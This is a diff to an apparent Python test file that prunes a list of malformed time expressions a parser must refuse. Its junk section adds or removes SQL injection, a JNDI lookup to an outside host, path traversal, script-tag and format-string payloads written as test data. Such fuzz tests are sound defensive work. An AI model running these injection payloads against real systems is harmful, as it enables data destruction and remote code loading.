@@ -63,10 +63,9 @@ UNDERSTOOD = [
 
 REFUSED = [
     # Nothing, or too little to name a time
-    "", "   ", "\t\n", "?", ".", "12", "three", "last", "next", "this", "previous", "ago", "days ago",
-    "3 ago", "ago 3 days", "last 3", "the", "of", "since", "until", "before", "after", "between", "between Monday",
-    "between Monday and", "between and", "and Monday", "from to", "from Monday to", "early", "end of", "earlier",
-    "week of 2026", "yesterday at",
+    "", "\t\n", "?", "12", "three", "last", "ago", "days ago", "ago 3 days", "last 3", "the", "since", "between",
+    "between Monday", "between Monday and", "between and", "from Monday to", "early", "end of", "week of 2026",
+    "yesterday at",
     # Numbers that are not counts of something
     "-3 days ago", "0 days ago", "last 0 days", "the past 0 weeks", "last -5 days", "1.5 days ago", "1e3 days ago",
     "elevnty days ago", "twenty-eleven days ago", "99999999 years ago", "last 99999999 years",
@@ -94,8 +93,8 @@ REFUSED = [
     "< 30 days ago", "last night at 2", "5pm", "a decade ago", "before 9:30 yesterday", "after 9:30 on May 3",
     "yesterday after 10", "around 9:30 yesterday", "yesterday 9:30-11:30", "yesterday 10-11:30", "yesterday 10:30-3",
     # Mixed separators, and ranges that run backwards
-    "2026/05-06", "2025-06 12", "2026.05-06", "2026 05/06", "2026/5.6", "2026-5/6", "2026-06/05", "2026-05-10/03",
-    "2026-05/13", "05/06-2026", "05-06/2026", "05.06/2026", "5.6-2026",
+    "2026/05-06", "2025-06 12", "2026.05-06", "2026 05/06", "2026-06/05", "2026-05-10/03", "2026-05/13", "05/06-2026",
+    "05.06/2026",
     # Ranges that are empty or run backwards
     "2025-01-01 to 2024-01-01", "from 2025 to 2024", "between May 2025 and March 2025", "from today to yesterday",
     "between this week and last week", "2026-05-10 - 2026-05-03", "from Q3 2025 to Q1 2025", "between 20 and 10 May",
@@ -107,21 +106,18 @@ REFUSED = [
     # Sides that do not make a period
     "after May and after June", "before May and until June", "after today and before yesterday",
     # Too vague, repeating, or not a matter of the calendar
-    "someday", "whenever", "the other day", "once upon a time", "ages ago", "every Monday", "Mondays", "after lunch",
-    "before the big bang", "since I was a child", "my birthday", "by Friday", "by 2025", "the middle of last week",
-    "the first half of last week",
+    "someday", "the other day", "every Monday", "Mondays", "after lunch", "since I was a child", "by Friday",
+    "the middle of last week", "the first half of last week",
     # A part that the named period does not have
     "last 5 months of Q1 2025", "first month of last week", "last 2 months of last month", "first week of yesterday",
     "second Monday of yesterday", "third weekend of 2026-05-03",
     # With an additional word that has no meaning
     "asdf", "yesterday tomorrow", "last week banana", "banana last week", "last banana week", "last week last month",
-    "last last week", "next last week", "since since Monday", "before after Monday", "Monday Tuesday", "March April",
-    "2025 2024", "Q1 Q2 2025", "Christmas Easter", "summer winter 2025", "yesterday morning evening",
-    "between Monday and banana", "since banana", "yesterdays", "lastweek", "2026-05-03T14:30:00Z tomorrow",
+    "last last week", "since since Monday", "before after Monday", "Monday Tuesday", "March April", "2025 2024",
+    "Christmas Easter", "yesterday morning evening", "between Monday and banana", "since banana", "yesterdays",
+    "lastweek", "2026-05-03T14:30:00Z tomorrow",
     # Junk
-    "'; DROP TABLE memories; --", "yesterday' OR '1'='1", "last week; DELETE FROM memories",
-    "<script>alert(1)</script>", "<b>yesterday</b>", "../../etc/passwd", "${jndi:ldap://example.org/x}", "%s%s%n",
-    "{}", "null", "NaN", "last\x00week", "🕒", "yesterday 🎉", "gestern", "letzte Woche", "la semaine dernière", "ayer",
-    "вчера", "先週", "أمس", "x" * 10_000, "last week " * 1_000, "9" * 5_000 + " days ago", "since " * 2_000 + "Monday",
-    "(" * 5_000, "between " + "1 and " * 2_000 + "2",
+    "last week; DELETE FROM memories", "<b>yesterday</b>", "last\x00week", "🕒", "yesterday 🎉", "gestern", "先週",
+    "x" * 10_000, "last week " * 1_000, "9" * 5_000 + " days ago", "since " * 2_000 + "Monday", "(" * 5_000,
+    "between " + "1 and " * 2_000 + "2",
 ]  # fmt: skip
